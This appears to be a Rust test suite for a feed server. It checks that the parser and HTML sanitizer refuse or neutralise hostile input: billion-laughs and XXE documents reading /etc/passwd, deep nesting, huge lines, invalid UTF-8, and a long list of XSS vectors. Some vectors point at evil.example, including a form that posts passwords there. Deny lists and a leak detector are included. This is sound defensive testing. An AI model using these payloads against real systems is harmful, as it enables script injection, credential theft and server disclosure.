//! Hostile input: entity expansion, external entities, deep nesting, huge lines, invalid UTF-8,
//! posted to the real server and read by the poller's parser; and XSS vectors through the
//! sanitizer and through a real poll into the republished feeds. Every case must end in a clear
//! answer (or a safe import), quickly, and the server must keep serving.

use std::time::{Duration, Instant};

use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use syndic::formats::parse_feed;
use syndic::ingest::normalize::{HtmlOrigin, safe_html};
use url::Url;

use crate::helpers::{MAX_BODY, TestApp, assert_error, spawn_app};
use crate::upstream::spawn_upstream;

/// A bound on each hostile case, generous on purpose: not a speed test (the slowest case here
/// takes seconds in a debug build), but what turns a blow-up (an expansion, a quadratic pass)
/// into a failure instead of a hung test.
const BLOW_UP: Duration = Duration::from_secs(120);

const RSS: &str = "application/rss+xml";
const ATOM: &str = "application/atom+xml";

/// Ten levels of ten references each: fully expanded, `lol9` would be 10^9 "lol"s (3 GB).
fn billion_laughs(root: &str) -> String {
    let mut dtd = String::from("<!ENTITY lol0 \"lol\">\n");
    for i in 1..10 {
        let refs: String = (0..10).map(|_| format!("&lol{};", i - 1)).collect();
        dtd.push_str(&format!("<!ENTITY lol{i} \"{refs}\">\n"));
    }
    format!(
        "<?xml version=\"1.0\"?>\n<!DOCTYPE {root} [\n{dtd}]>\n{}",
        feed_with(root, "&lol9;")
    )
}

/// A document whose item title refers to an external entity: the local password file.
fn xxe(root: &str) -> String {
    format!(
        "<?xml version=\"1.0\"?>\n<!DOCTYPE {root} [\n<!ENTITY xxe SYSTEM \"file:///etc/passwd\">\n]>\n{}",
        feed_with(root, "&xxe;")
    )
}

/// A minimal RSS or Atom feed with one item whose title (and body) is `title`.
fn feed_with(root: &str, title: &str) -> String {
    if root == "rss" {
        format!(
            "<rss version=\"2.0\"><channel><title>t</title><link>https://up.example/</link>\
             <description>d</description><item><guid>g-1</guid><title>{title}</title>\
             <description>{title}</description></item></channel></rss>"
        )
    } else {
        format!(
            "<feed xmlns=\"http://www.w3.org/2005/Atom\"><id>urn:f</id><title>t</title>\
             <updated>2025-09-16T10:00:00Z</updated><entry><id>urn:e1</id><title>{title}</title>\
             <updated>2025-09-16T10:00:00Z</updated><content>{title}</content></entry></feed>"
        )
    }
}

/// `levels` nested elements inside one item's description (RSS) or content (Atom).
fn deeply_nested(root: &str, levels: usize) -> String {
    let deep = format!("{}x{}", "<a>".repeat(levels), "</a>".repeat(levels));
    feed_with(root, &deep)
}

/// What the password file starts with on any Unix, and its first line here if readable.
fn passwd_markers() -> Vec<String> {
    let mut m = vec!["root:x:0:0".to_owned(), "root:*:0:0".to_owned()];
    if let Ok(p) = std::fs::read_to_string("/etc/passwd")
        && let Some(first) = p.lines().next().filter(|l| l.len() > 8)
    {
        m.push(first.to_owned());
    }
    m
}

async fn assert_healthy(app: &TestApp) {
    let r = app.client.get(app.url("/healthz")).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::OK, "the server stopped serving");
}

async fn news_app() -> TestApp {
    let app = spawn_app().await;
    app.create_channel("news", json!({ "link": "https://news.example/" }))
        .await;
    app
}

/// Posts `body` and returns the status and the whole answer as text, within [`BLOW_UP`].
async fn post(
    app: &TestApp,
    content_type: &str,
    body: impl Into<reqwest::Body>,
) -> (StatusCode, String) {
    let answer = async {
        let r = app.post_raw("news", content_type, body).await;
        (r.status(), r.text().await.unwrap())
    };
    tokio::time::timeout(BLOW_UP, answer)
        .await
        .unwrap_or_else(|_| panic!("no answer within {BLOW_UP:?}"))
}

/// Everything the server publishes about channel `news`: its three feeds and its articles.
async fn everything_published(app: &TestApp, slug: &str) -> String {
    let mut all = String::new();
    for file in ["rss.xml", "atom.xml", "feed.json"] {
        all.push_str(&app.feed_text(slug, file).await);
    }
    all.push_str(&Value::Array(app.all_articles(slug).await).to_string());
    all
}

/// A 400 or 422 (or, for an import that went through, a 2xx) whose body is JSON; an error must name
/// the problem. Returns the body. Callers assert which status they expect.
fn assert_clear_answer(status: StatusCode, text: &str) -> Value {
    let body: Value =
        serde_json::from_str(text).unwrap_or_else(|e| panic!("{status}: {e}: {text}"));
    if !status.is_success() {
        let code = match status {
            StatusCode::BAD_REQUEST => "bad_request",
            StatusCode::UNPROCESSABLE_ENTITY => "invalid_item",
            _ => panic!("{status}: {text}"),
        };
        assert_eq!(body["error"], code, "{text}");
        assert!(body["message"].as_str().is_some_and(|m| !m.is_empty()));
    }
    body
}

#[tokio::test]
async fn billion_laughs_is_never_expanded() {
    let app = news_app().await;
    for (root, ct) in [("rss", RSS), ("feed", ATOM)] {
        let (status, text) = post(&app, ct, billion_laughs(root)).await;
        // Documents that declare entities are refused whole, whatever the format.
        assert_eq!(status, StatusCode::BAD_REQUEST, "{root}: {text}");
        let body = assert_clear_answer(status, &text);
        assert!(
            body["message"].as_str().unwrap().contains("entities"),
            "{text}"
        );
        assert!(
            text.len() < 10_000,
            "{root}: an answer of {} bytes",
            text.len()
        );
        assert_healthy(&app).await;
    }
    assert_eq!(app.db_count("SELECT count(*) FROM articles").await, 0);
    let published = everything_published(&app, "news").await;
    assert!(!published.contains("lollol"), "{published}");
}

#[tokio::test]
async fn external_entities_are_never_read() {
    let app = news_app().await;
    let markers = passwd_markers();
    for (root, ct) in [("rss", RSS), ("feed", ATOM)] {
        let (status, text) = post(&app, ct, xxe(root)).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{root}: {text}");
        assert_clear_answer(status, &text);
        for m in &markers {
            assert!(
                !text.contains(m.as_str()),
                "{root}: the answer holds /etc/passwd: {text}"
            );
        }
        assert_healthy(&app).await;
    }
    let published = everything_published(&app, "news").await;
    for m in &markers {
        assert!(!published.contains(m.as_str()), "a feed holds /etc/passwd");
    }
}

/// Deep nesting gets the answer its content calls for, and the server lives: an RSS title and
/// description are text, so elements nested in them leave an item with neither (422, naming
/// the title); an Atom `content` keeps its markup, so the entry is imported (201) and every
/// feed stays well-formed; an unclosed nest is no XML (400); past the body cap, 413.
#[tokio::test]
async fn deep_nesting_gets_an_answer_and_the_server_lives() {
    let app = news_app().await;
    // As deep as fits under the body cap (the nest is written twice, 7 bytes a level).
    let levels = (MAX_BODY - 1024) / 14;
    let doc = deeply_nested("rss", levels);
    assert!(doc.len() <= MAX_BODY);
    let (status, text) = post(&app, RSS, doc).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{text}");
    let body = assert_clear_answer(status, &text);
    assert_eq!(body["field"], "title", "{body}");
    assert_healthy(&app).await;
    assert_eq!(app.db_count("SELECT count(*) FROM articles").await, 0);

    // The title holds the nest as text, past the title cap (422 naming it, see limits.rs):
    // the title here is short, and the nest is in the content only.
    let deep = format!("{}x{}", "<a>".repeat(levels), "</a>".repeat(levels));
    let doc = feed_with("feed", "short").replacen(
        "<content>short</content>",
        &format!("<content>{deep}</content>"),
        1,
    );
    assert!(doc.len() <= MAX_BODY && doc.contains("<content><a><a>"));
    let (status, text) = post(&app, ATOM, doc).await;
    assert_eq!(status, StatusCode::CREATED, "{text}");
    let body = assert_clear_answer(status, &text);
    assert_eq!(body["created"], 1, "{body}");
    assert_healthy(&app).await;
    let stored = app.all_articles("news").await;
    assert_eq!(stored.len(), 1);
    let html = stored[0]["content_html"].as_str().unwrap();
    assert!(
        html.starts_with("<a><a>") && html.contains('x'),
        "{html:.200}"
    );
    crate::helpers::assert_well_formed(&app.feed_text("news", "rss.xml").await);
    crate::helpers::assert_well_formed(&app.feed_text("news", "atom.xml").await);
    let json: Value = serde_json::from_str(&app.feed_text("news", "feed.json").await).unwrap();
    assert_eq!(json["items"].as_array().unwrap().len(), 1);

    // Unclosed, and more levels: the cap still bounds the work.
    let unclosed = format!(
        "<rss version=\"2.0\"><channel>{}",
        "<a>".repeat(MAX_BODY / 3 - 20)
    );
    let (status, text) = post(&app, RSS, unclosed).await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{text}");
    let body = assert_clear_answer(status, &text);
    assert!(
        body["message"]
            .as_str()
            .unwrap()
            .contains("not a readable RSS feed"),
        "{body}"
    );
    assert_healthy(&app).await;
    // 100,000 levels is over the cap.
    let (status, text) = post(&app, RSS, deeply_nested("rss", 100_000)).await;
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE, "{text}");
    assert_healthy(&app).await;
}

#[tokio::test]
async fn a_100_mb_line_is_refused_by_size() {
    let app = news_app().await;
    let mut body = Vec::with_capacity(100 << 20);
    body.extend_from_slice(b"{\"id\":\"a\",\"title\":\"");
    body.resize((100 << 20) - 2, b'a');
    body.extend_from_slice(b"\"}");
    let r = tokio::time::timeout(BLOW_UP, app.post_raw("news", "application/json", body))
        .await
        .expect("an answer within the bound");
    let json = assert_error(r, StatusCode::PAYLOAD_TOO_LARGE, "payload_too_large").await;
    assert_eq!(json["limit"], MAX_BODY, "{json}");
    assert_healthy(&app).await;
    assert!(app.all_articles("news").await.is_empty());
}

#[tokio::test]
async fn invalid_utf8_json_names_utf8() {
    let app = news_app().await;
    let mut body = b"{\"id\":\"a\",\"title\":\"caf".to_vec();
    body.extend_from_slice(&[0xC3, 0x28, 0xFF, 0xFE]);
    body.extend_from_slice(b"\"}");
    let r = app.post_raw("news", "application/json", body).await;
    let json = assert_error(r, StatusCode::BAD_REQUEST, "bad_request").await;
    assert!(
        json["message"].as_str().unwrap().contains("UTF-8"),
        "{json}"
    );
    assert_healthy(&app).await;
    assert!(app.all_articles("news").await.is_empty());
}

/// XML that is not UTF-8 where it says it is gets 400, and changes nothing: the feeds of a
/// channel with an article in it are the same bytes, and well-formed, afterwards.
#[tokio::test]
async fn invalid_utf8_xml_is_refused_and_changes_nothing() {
    let app = news_app().await;
    app.ingest(
        "news",
        &json!({ "id": "kept", "title": "Café & co <ok>", "content_html": "<p>là</p>" }),
    )
    .await;
    let mut feeds_before = Vec::new();
    for file in ["rss.xml", "atom.xml", "feed.json"] {
        feeds_before.push(app.feed_text("news", file).await);
    }
    for (root, ct) in [("rss", RSS), ("feed", ATOM)] {
        // Bytes that are no UTF-8 at all where the title says "caf".
        let doc = format!(
            "<?xml version=\"1.0\" encoding=\"utf-8\"?>{}",
            feed_with(root, "caf@")
        );
        let body: Vec<u8> = doc
            .split('@')
            .map(str::as_bytes)
            .collect::<Vec<_>>()
            .join(&[0xC3, 0x28, 0xFF, 0xFE][..]);
        let (status, text) = post(&app, ct, body).await;
        let json = assert_clear_answer(status, &text);
        assert_eq!(status, StatusCode::BAD_REQUEST, "{root}: {json}");
        assert_healthy(&app).await;
    }
    assert_eq!(app.db_count("SELECT count(*) FROM articles").await, 1);
    for (file, before) in ["rss.xml", "atom.xml", "feed.json"]
        .iter()
        .zip(&feeds_before)
    {
        let now = app.feed_text("news", file).await;
        assert_eq!(&now, before, "{file} changed");
        if file.ends_with(".xml") {
            crate::helpers::assert_well_formed(&now);
            assert!(now.contains("Café &amp; co &lt;ok&gt;"), "{now}");
        }
    }
}

fn feed_url() -> Url {
    Url::parse("https://upstream.example/feed.xml").unwrap()
}

/// The poller's parser on a hostile document: Ok or Err within [`BLOW_UP`], no panic;
/// returns the items' text when it read any.
fn parse_quickly(doc: &[u8], what: &str) -> String {
    let start = Instant::now();
    let result = parse_feed(doc, None, &feed_url());
    let took = start.elapsed();
    assert!(took < BLOW_UP, "{what}: took {took:?}");
    match result {
        Ok(feed) => format!("{:?}", feed.items),
        Err(e) => {
            let msg = e.to_string();
            assert!(
                msg.len() < 10_000,
                "{what}: an error of {} bytes",
                msg.len()
            );
            msg
        }
    }
}

#[test]
fn the_poller_parser_does_not_expand_entities() {
    for root in ["rss", "feed"] {
        let out = parse_quickly(billion_laughs(root).as_bytes(), root);
        assert!(
            out.len() < 100_000,
            "{root}: expanded to {} bytes",
            out.len()
        );
        // Even one level expanded would be 10 lols in a row.
        assert!(!out.contains(&"lol".repeat(10)), "{root}: {out}");
    }
}

#[test]
fn the_poller_parser_never_reads_external_entities() {
    let markers = passwd_markers();
    for root in ["rss", "feed"] {
        let out = parse_quickly(xxe(root).as_bytes(), root);
        for m in &markers {
            assert!(!out.contains(m.as_str()), "{root}: read /etc/passwd: {out}");
        }
    }
}

#[test]
fn the_poller_parser_survives_deep_nesting() {
    // The full depth in every build: since the repair pass finds an element's base at once,
    // 100,000 levels take about a second unoptimized.
    let levels = 100_000;
    for root in ["rss", "feed"] {
        parse_quickly(deeply_nested(root, levels).as_bytes(), root);
        // Unclosed tags once cost quadratic time (the repair pass walked the whole
        // open-element stack for each element's base URL); the base is now found at once.
        let unclosed = format!("<{root}>{}", "<a>".repeat(levels));
        parse_quickly(unclosed.as_bytes(), root);
    }
    // Deep nesting in a JSON Feed too.
    let json = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    parse_quickly(json.as_bytes(), "json");
}

#[test]
fn the_poller_parser_reads_a_20_mb_line_promptly() {
    let big = "a".repeat(20 << 20);
    let doc = feed_with("rss", &big);
    assert!(!doc.contains('\n'));
    parse_quickly(doc.as_bytes(), "rss, one 20 MB title");
    let markup = format!("<rss><channel><item><description>{}", "<b>".repeat(7 << 20));
    parse_quickly(markup.as_bytes(), "rss, 20 MB of open tags on one line");
    parse_quickly(big.as_bytes(), "20 MB of text");
    // Entities cost more per byte (about 50 s for 20 MB unoptimized): 5 MB of them.
    let entities = "&amp;".repeat(1 << 20);
    parse_quickly(
        feed_with("feed", &entities).as_bytes(),
        "atom, 5 MB of entities",
    );
}

// ---------------------------------------------------------------------------------------------
// XSS

/// Vectors of script execution (and of navigation or form hijacking) in HTML content.
const XSS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" ONERROR=\"alert(1)\">",
    "<body onload=alert(1)>",
    "<p onmouseover=\"alert(1)\">hover</p>",
    "<a href=\"javascript:alert(1)\">a</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">a</a>",
    "<a href=\" javascript:alert(1)\">a</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">a</a>",
    "<a href=\"jav\tascript:alert(1)\">a</a>",
    "<a href=\"java\nscript:alert(1)\">a</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">a</a>",
    "<a href=\"&#x6A;avascript&colon;alert(1)\">a</a>",
    "<a href=\"vbscript:msgbox(1)\">a</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">a</a>",
    "<img src=\"javascript:alert(1)\">",
    "<img src=\"data:text/html,<script>alert(1)</script>\">",
    "<video poster=\"javascript:alert(1)\" src=\"javascript:alert(1)\"></video>",
    "<audio src=\"vbscript:msgbox(1)\"></audio>",
    "<source src=\"javascript:alert(1)\">",
    "<p style=\"width:expression(alert(1))\">x</p>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<div style=\"background-image: url('javascript:alert(1)')\">x</div>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"0\" y=\"20\">x</text></a></svg>",
    "<svg><animate attributeName=\"href\" values=\"javascript:alert(1)\"/></svg>",
    "<math><maction actiontype=\"statusline#http://evil.example\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<object data=\"https://evil.example/x.swf\"></object>",
    "<embed src=\"https://evil.example/x.swf\">",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
    "<form action=\"https://evil.example/steal\"><input name=\"p\" type=\"password\"><button formaction=\"javascript:alert(1)\">go</button></form>",
    "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<details open ontoggle=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
];

/// Every vector, and each one holding `javascript:` again with a character that XML forbids
/// hidden in its scheme, raw or as a reference: a sanitizer that judged the scheme before
/// those characters were dropped would let `javascript:` through.
fn xss() -> Vec<String> {
    let mut all: Vec<String> = XSS.iter().map(|v| v.to_string()).collect();
    for v in XSS.iter().filter(|v| v.contains("javascript:")) {
        for hidden in ["\u{1}", "&#1;", "\u{FFFE}", "&#xFFFF;"] {
            all.push(v.replacen("javascript:", &format!("java{hidden}script:"), 1));
        }
    }
    all
}

/// What the ingest pipeline stores for upstream HTML (no base URL to resolve against).
fn sanitize_html(html: &str) -> String {
    safe_html(html, None, HtmlOrigin::Upstream)
        .expect("the HTML parser reads every vector")
        .unwrap_or_default()
}

/// Elements that must never come out of the sanitizer.
const FORBIDDEN_TAGS: &[&str] = &[
    "script", "style", "svg", "math", "maction", "iframe", "object", "embed", "base", "meta",
    "form", "input", "button", "link", "animate", "body", "noscript", "frame", "frameset",
];

/// Attributes that must never come out of the sanitizer (besides every `on*` handler).
const FORBIDDEN_ATTRS: &[&str] = &[
    "style",
    "srcdoc",
    "formaction",
    "action",
    "xlink:href",
    "http-equiv",
    "background",
    "values",
];

/// What in `html` would still run script, navigate or restyle the page: each element and
/// attribute as an HTML parser (lol_html) sees it, so escaped text and comments, which are
/// inert, never count.
fn leaks(html: &str) -> Vec<String> {
    let found = std::cell::RefCell::new(Vec::new());
    let settings = lol_html::RewriteStrSettings::new().append_element_content_handler(
        lol_html::element!("*", |el| {
            let tag = el.tag_name().to_ascii_lowercase();
            if FORBIDDEN_TAGS.contains(&tag.as_str()) {
                found.borrow_mut().push(format!("<{tag}>"));
            }
            for attr in el.attributes() {
                let name = attr.name().to_ascii_lowercase();
                if name.starts_with("on") || FORBIDDEN_ATTRS.contains(&name.as_str()) {
                    found.borrow_mut().push(format!("{tag}[{name}]"));
                }
                // As a lenient URL reader sees the value: references decoded, no white space,
                // control characters or noncharacters.
                let value: String = html_escape::decode_html_entities(&attr.value())
                    .chars()
                    .filter(|c| {
                        !c.is_whitespace() && !c.is_control() && (*c as u32 & 0xFFFE) != 0xFFFE
                    })
                    .collect::<String>()
                    .to_ascii_lowercase();
                for scheme in ["javascript:", "vbscript:", "data:text/html"] {
                    if value.contains(scheme) {
                        found.borrow_mut().push(format!("{tag}[{name}={value}]"));
                    }
                }
            }
            Ok(())
        }),
    );
    lol_html::rewrite_str(html, settings).expect("lol_html reads any HTML");
    found.into_inner()
}

#[test]
fn sanitize_html_removes_every_xss_vector() {
    let mut failures = Vec::new();
    for v in xss() {
        // Each alone, and inside ordinary content.
        for html in [v.to_string(), format!("<p>before</p>{v}<p>after</p>")] {
            let out = sanitize_html(&html);
            let found = leaks(&out);
            if !found.is_empty() {
                failures.push(format!("{html:?} -> {out:?}: {found:?}"));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// ammonia checks the scheme of `href`, `src` and a few more attributes but not of `srcset`,
/// which this sanitizer allows on `img` and `source`: its attribute filter keeps only the
/// `srcset` candidates that are http(s) or relative, so no script URL is republished there.
#[test]
fn sanitize_html_removes_script_urls_from_srcset() {
    for v in [
        "<img srcset=\"javascript:alert(1) 1x\">",
        "<picture><source srcset=\"javascript:alert(1)\"></picture>",
        "<img srcset=\"data:text/html,x 1x\">",
    ] {
        let out = sanitize_html(v);
        assert!(leaks(&out).is_empty(), "{v:?} -> {out:?}");
    }
}

#[test]
fn sanitize_html_keeps_ordinary_content() {
    let html = "<p>Hi <a href=\"https://example.org/x\">link</a> <em>e</em></p>\
                <img src=\"https://example.org/i.png\" alt=\"i\">\
                <figure><img src=\"https://example.org/j.png\"><figcaption>c</figcaption></figure>";
    let out = sanitize_html(html);
    for keep in [
        "href=\"https://example.org/x\"",
        "src=\"https://example.org/i.png\"",
        "<figure>",
        "<figcaption>c</figcaption>",
        "<em>e</em>",
    ] {
        assert!(out.contains(keep), "{keep} lost: {out}");
    }
}

/// An RSS feed of one item per vector: the vector in `description` (escaped) and in
/// `content:encoded` (CDATA).
fn xss_rss() -> String {
    let mut s = String::from(
        "<?xml version=\"1.0\" encoding=\"utf-8\"?><rss version=\"2.0\" \
         xmlns:content=\"http://purl.org/rss/1.0/modules/content/\"><channel><title>X</title>\
         <link>https://up.example/</link><description>d</description>",
    );
    for (i, v) in xss().iter().enumerate() {
        let escaped = html_escape::encode_text(v);
        s.push_str(&format!(
            "<item><guid isPermaLink=\"false\">rss-{i}</guid><title>rss {i}</title>\
             <link>https://up.example/rss/{i}</link>\
             <description>&lt;p&gt;summary&lt;/p&gt;{escaped}</description>\
             <content:encoded><![CDATA[<p>vector {i}</p>{}]]></content:encoded></item>",
            v.replace("]]>", "]]]]><![CDATA[>")
        ));
    }
    s.push_str("</channel></rss>");
    s
}

/// An Atom feed of one entry per vector, as `type="html"` content.
fn xss_atom() -> String {
    let mut s = String::from(
        "<?xml version=\"1.0\" encoding=\"utf-8\"?><feed xmlns=\"http://www.w3.org/2005/Atom\">\
         <id>urn:x</id><title>X</title><updated>2025-09-16T10:00:00Z</updated>\
         <link href=\"https://up.example/\"/>",
    );
    for (i, v) in xss().iter().enumerate() {
        s.push_str(&format!(
            "<entry><id>urn:atom-{i}</id><title>atom {i}</title>\
             <link href=\"https://up.example/atom/{i}\"/><updated>2025-09-16T10:00:00Z</updated>\
             <content type=\"html\">{}</content></entry>",
            html_escape::encode_text(v)
        ));
    }
    s.push_str("</feed>");
    s
}

/// A JSON Feed with one item per vector in `content_html`.
fn xss_json() -> String {
    let items: Vec<Value> = xss()
        .iter()
        .enumerate()
        .map(|(i, v)| {
            json!({
                "id": format!("json-{i}"),
                "title": format!("json {i}"),
                "url": format!("https://up.example/json/{i}"),
                "content_html": v,
            })
        })
        .collect();
    json!({
        "version": "https://jsonfeed.org/version/1.1",
        "title": "X",
        "home_page_url": "https://up.example/",
        "items": items,
    })
    .to_string()
}

/// Every HTML string a published XML feed carries, unescaped: RSS `description` and
/// `content:encoded`, Atom `content` (text fields are checked apart, see below).
fn xml_html_fields(xml: &str) -> Vec<String> {
    crate::helpers::assert_well_formed(xml);
    let doc = roxmltree::Document::parse(xml).unwrap();
    doc.descendants()
        .filter(|n| {
            n.is_element()
                && matches!(
                    n.tag_name().name(),
                    "description" | "encoded" | "content" | "summary"
                )
                && n.attribute("type") != Some("text")
        })
        .filter_map(|n| n.text().map(str::to_owned))
        .collect()
}

/// Every attribute value of a published XML feed: no URL there may carry a script scheme.
fn xml_attributes(xml: &str) -> Vec<String> {
    let doc = roxmltree::Document::parse(xml).unwrap();
    doc.descendants()
        .flat_map(|n| {
            n.attributes()
                .map(|a| a.value().to_owned())
                .collect::<Vec<_>>()
        })
        .collect()
}

#[tokio::test]
async fn xss_vectors_polled_from_upstream_are_never_republished() {
    let app = spawn_app().await;
    app.create_channel("planet", json!({ "title": "Planet" }))
        .await;
    let up = spawn_upstream().await;
    up.set_feed("rss", RSS, xss_rss());
    up.set_feed("atom", ATOM, xss_atom());
    up.set_feed("json", "application/feed+json", xss_json());
    let mut imported = 0;
    for name in ["rss", "atom", "json"] {
        let r = app
            .api(Method::POST, "/subscriptions")
            .json(&json!({ "url": up.url(&format!("/f/{name}")), "channel": "planet" }))
            .send()
            .await
            .unwrap();
        let status = r.status();
        let sub: Value = r.json().await.unwrap();
        assert_eq!(status, StatusCode::CREATED, "{sub}");
        let id = sub["subscription"]["id"].as_i64().unwrap();
        let r = app
            .api(Method::POST, &format!("/subscriptions/{id}/poll"))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), StatusCode::OK);
        let polled: Value = r.json().await.unwrap();
        assert_eq!(polled["poll"]["status"], "imported", "{name}: {polled}");
        imported += polled["poll"]["created"].as_i64().unwrap();
    }
    assert_eq!(imported, 3 * xss().len() as i64);
    assert_nothing_runs(&app, "planet").await;
}

#[tokio::test]
async fn xss_vectors_posted_by_publishers_are_never_republished() {
    let app = news_app().await;
    for (ct, body) in [
        (RSS, xss_rss()),
        (ATOM, xss_atom()),
        ("application/feed+json", xss_json()),
    ] {
        let (status, text) = post(&app, ct, body).await;
        assert_eq!(status, StatusCode::CREATED, "{ct}: {text}");
        let report: Value = serde_json::from_str(&text).unwrap();
        assert_eq!(report["created"], xss().len(), "{ct}: {text}");
    }
    assert_nothing_runs(&app, "news").await;
}

/// Reads every format and the API of channel `slug` (3 × XSS articles) and fails on anything
/// a reader would run.
async fn assert_nothing_runs(app: &TestApp, slug: &str) {
    let mut failures = Vec::new();
    for file in ["rss.xml", "atom.xml"] {
        let page = format!("/feeds/{slug}/{file}?limit=500");
        let xml = app.get_with(&page, &[]).await.text().await.unwrap();
        // Raw: no real element of any kind sneaks in beside the feed's own.
        for f in [
            "<script", "<svg", "<iframe", "<object", "<embed", "<meta", "<form",
        ] {
            if xml.to_ascii_lowercase().contains(f) {
                failures.push(format!("{file}: raw {f}"));
            }
        }
        let attrs = xml_attributes(&xml).into_iter().filter(|a| {
            let a: String = a
                .chars()
                .filter(|c| !c.is_whitespace() && !c.is_control())
                .collect::<String>()
                .to_ascii_lowercase();
            a.contains("javascript:") || a.contains("vbscript:") || a.contains("data:text/html")
        });
        failures.extend(attrs.map(|a| format!("{file}: attribute {a:?}")));
        for text in xml_html_fields(&xml) {
            let found = leaks(&text);
            if !found.is_empty() {
                failures.push(format!("{file}: {text:?}: {found:?}"));
            }
        }
    }
    let json: Value = app
        .get_with(&format!("/feeds/{slug}/feed.json?limit=500"), &[])
        .await
        .json()
        .await
        .unwrap();
    let items = json["items"].as_array().unwrap();
    assert_eq!(items.len(), 3 * xss().len());
    for item in items {
        // `summary` and `content_text` are plain text (escaped by every writer).
        for field in ["content_html"] {
            if let Some(html) = item[field].as_str() {
                let found = leaks(html);
                if !found.is_empty() {
                    failures.push(format!("feed.json {}: {html:?}: {found:?}", item["id"]));
                }
            }
        }
    }
    for a in app.all_articles(slug).await {
        if let Some(html) = a["content_html"].as_str() {
            let found = leaks(html);
            if !found.is_empty() {
                failures.push(format!("API {}: {html:?}: {found:?}", a["id"]));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    assert_healthy(app).await;
}

/// An Atom entry whose `xml:base` is a `mailto:` URL (nothing resolves against it) made the
/// absolutizing pass fail, and the scheme checks came too early: `java&#1;script:` went
/// through. Every disguise of the scheme, with that base, through the upstream pipeline.
#[test]
fn xml_base_mailto_does_not_let_a_disguised_scheme_through() {
    let channel = syndic::model::Channel {
        id: 1,
        slug: syndic::model::Slug::parse("planet").unwrap(),
        title: "Planet".into(),
        description: String::new(),
        link: None,
        language: None,
        created_at: chrono::Utc::now(),
        updated_at: chrono::Utc::now(),
        version: 1,
        retain_max_articles: None,
        retain_days: None,
        dedupe: Default::default(),
    };
    let source = syndic::model::Source {
        title: None,
        url: "https://up.example/atom.xml".into(),
    };
    for disguise in [
        "java&amp;#1;script:",
        "java\u{1}script:",
        "java&amp;#xFFFE;script:",
    ] {
        let doc = format!(
            "<feed xmlns=\"http://www.w3.org/2005/Atom\"><id>urn:f</id><title>F</title>\
             <updated>2025-09-16T10:00:00Z</updated><entry xml:base=\"mailto:a@up.example\">\
             <id>urn:e</id><title>e</title><updated>2025-09-16T10:00:00Z</updated>\
             <link href=\"{disguise}alert(1)\"/>\
             <content type=\"html\">&lt;a href=\"{disguise}alert(1)\"&gt;x&lt;/a&gt;\
             &lt;img src=\"{disguise}alert(2)\"&gt;</content></entry></feed>"
        );
        let feed = parse_feed(doc.as_bytes(), None, &feed_url()).unwrap();
        let prepared = syndic::ingest::prepare_upstream(feed.items, &channel, &source);
        assert_eq!(prepared.articles.len(), 1, "{disguise}: {prepared:?}");
        let article = &prepared.articles[0].1;
        let html = article.content_html.as_deref().unwrap_or("");
        assert!(leaks(html).is_empty(), "{disguise}: {html}");
        assert!(
            html.contains(">x</a>"),
            "{disguise}: the link text stays: {html}"
        );
        let link = article.url.as_deref().unwrap_or("");
        assert!(
            !link.to_ascii_lowercase().contains("script"),
            "{disguise}: {link}"
        );
    }
}
